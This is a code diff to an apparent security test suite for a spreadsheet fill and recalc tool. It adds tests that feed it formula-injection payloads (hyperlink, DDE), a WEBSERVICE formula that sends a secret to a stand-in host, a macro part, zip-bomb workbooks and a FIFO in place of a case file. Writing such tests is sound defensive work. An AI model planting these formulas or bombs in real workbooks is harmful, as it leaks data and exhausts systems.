@@ -442,23 +442,31 @@ class Book:
         assert ra == rb, ref
         return sheet, [f"{_col_letter(c)}{ra}" for c in range(_col_index(ca), _col_index(cb) + 1)]
 
-    def set_cell(self, sheet: str, ref: str, value) -> None:
-        """Replace one cell's content by a number, a boolean or *text* (an inline string, never a formula)."""
+    def _replace_cell(self, sheet: str, ref: str, make: Callable[[str], str]) -> None:
+        """Replace one cell (it must exist) by ``make(its attributes but r and t)``."""
         part = self.sheet_part(sheet)
         xml = self.text(part)
         rx = re.compile(rf'<c r="{ref}"((?:\s+(?!r=)[a-zA-Z:]+="[^"]*")*)\s*(/>|>.*?</c>)', re.S)
         m = rx.search(xml)
         assert m, f"{sheet}!{ref} not in {part}"
         attrs = re.sub(r'\s+t="[^"]*"', "", m.group(1))
-        if isinstance(value, bool):
-            new = f'<c r="{ref}"{attrs} t="b"><v>{int(value)}</v></c>'
-        elif isinstance(value, (int, float)):
-            new = f'<c r="{ref}"{attrs}><v>{value!r}</v></c>'
-        elif value is None:
-            new = f'<c r="{ref}"{attrs}/>'
-        else:
-            new = f'<c r="{ref}"{attrs} t="inlineStr"><is><t xml:space="preserve">{xml_text(value)}</t></is></c>'
-        self.set_text(part, xml[:m.start()] + new + xml[m.end():])
+        self.set_text(part, xml[:m.start()] + make(attrs) + xml[m.end():])
+
+    def set_cell(self, sheet: str, ref: str, value) -> None:
+        """Replace one cell's content by a number, a boolean or *text* (an inline string, never a formula)."""
+        def make(attrs: str) -> str:
+            if isinstance(value, bool):
+                return f'<c r="{ref}"{attrs} t="b"><v>{int(value)}</v></c>'
+            if isinstance(value, (int, float)):
+                return f'<c r="{ref}"{attrs}><v>{value!r}</v></c>'
+            if value is None:
+                return f'<c r="{ref}"{attrs}/>'
+            return f'<c r="{ref}"{attrs} t="inlineStr"><is><t xml:space="preserve">{xml_text(value)}</t></is></c>'
+        self._replace_cell(sheet, ref, make)
+
+    def set_formula(self, sheet: str, ref: str, formula: str) -> None:
+        """Make one cell (it must exist) a formula, without a cached value."""
+        self._replace_cell(sheet, ref, lambda attrs: f'<c r="{ref}"{attrs}><f>{xml_text(formula)}</f></c>')
 
     def set_input(self, name: str, value, index: int | None = None) -> str:
         """Set the cell of ``in_<field>`` (the sample's evaluation year's by default); return its sheet!cell."""
@@ -889,6 +897,39 @@ for _pid, _payload in [f for f in FORMULAS if f[0] in ("dde", "tab")]:
         _register(f"check_{'markdown' if _md else 'text'}_company_name_{_pid}", "formula", _make_check_text)
 
 
+# fill writes text from a case into a workbook: text cells, never formulas (issue 24)
+for _pid, _payload in [f for f in FORMULAS if f[0] in ("hyperlink", "dde")]:
+    def _make_fill(d: Path, ctx: Ctx, _payload=_payload) -> Hostile:
+        case = write_yaml(d / "case.yaml", case_with(ctx, company={"company_name": _payload}))
+        book = copy_base(ctx, d)
+        out = d / "filled.xlsx"
+        return Hostile("", "", ["fill", str(book), str(case), "-o", str(out)], exit=(0,), produces=[out.name],
+                       check=check_build_inert(out, ctx.base, _payload), timeout=20)
+
+    _register(f"fill_company_name_{_pid}", "formula", _make_fill)
+
+
+@entry("recalc_webservice_in_a_note", "formula")
+def _(d, ctx):
+    """A formula calling out of the workbook, typed into a notes cell: never handed to an engine."""
+    def edit(b: Book):
+        sheet, refs = b.cells_of("in_cash_dividend")
+        col, row = _split_cell(refs[-1])
+        b.set_formula(sheet, f"{_col_letter(_col_index(col) + 1)}{row}", f'WEBSERVICE("http://example.invalid/{SECRET}")')
+    book, _ = edited_base(ctx, d, edit)
+    out = d / "out.xlsx"
+    return Hostile("", "", ["recalc", str(book), "-o", str(out)], expect=["book.xlsx", "WEBSERVICE", "refresh"],
+                   outputs=[out], timeout=30)
+
+
+@entry("recalc_macros_part", "formula")
+def _(d, ctx):
+    book, _ = edited_base(ctx, d, lambda b: b.set_text("xl/vbaProject.bin", "Attribute VB_Name"))
+    out = d / "out.xlsx"
+    return Hostile("", "", ["recalc", str(book), "-o", str(out)], expect=["book.xlsx", "vbaProject.bin", "macros"],
+                   outputs=[out], timeout=30)
+
+
 # ---- C. resources: memory and time ----------------------------------------------------------
 
 
@@ -966,6 +1007,26 @@ def _(d, ctx):
     out = d / "out.csv"
     return Hostile("", "", ["evaluate", "--batch", str(src), "-o", str(out)], expect=["bomb.xlsx"], outputs=[out],
                    timeout=20, note=f"{unpacked / 2**20:.0f} MB in one part, {src.stat().st_size // 1000} KB on disk")
+
+
+for _cmd in ("fill", "recalc"):
+    def _make_bomb(d: Path, ctx: Ctx, _cmd=_cmd) -> Hostile:
+        src = d / "bomb.xlsx"
+        write_zip_bomb_xlsx(src)
+        out = d / "out.xlsx"
+        args = [_cmd, str(src)] + ([str(SAMPLE)] if _cmd == "fill" else []) + ["-o", str(out)]
+        return Hostile("", "", args, expect=["bomb.xlsx"], outputs=[out], timeout=20)
+
+    _register(f"{_cmd}_zip_bomb_workbook", "resources", _make_bomb)
+
+
+@entry("fill_fifo_case", "resources")
+def _(d, ctx):
+    case = d / "case.yaml"
+    os.mkfifo(case)
+    out = d / "out.xlsx"
+    return Hostile("", "", ["fill", str(copy_base(ctx, d)), str(case), "-o", str(out)], outputs=[out],
+                   expect=["case.yaml", ("regular file", "fifo", "pipe", "not a file")], timeout=10)
 
 
 @entry("check_zip_bomb_workbook", "resources")
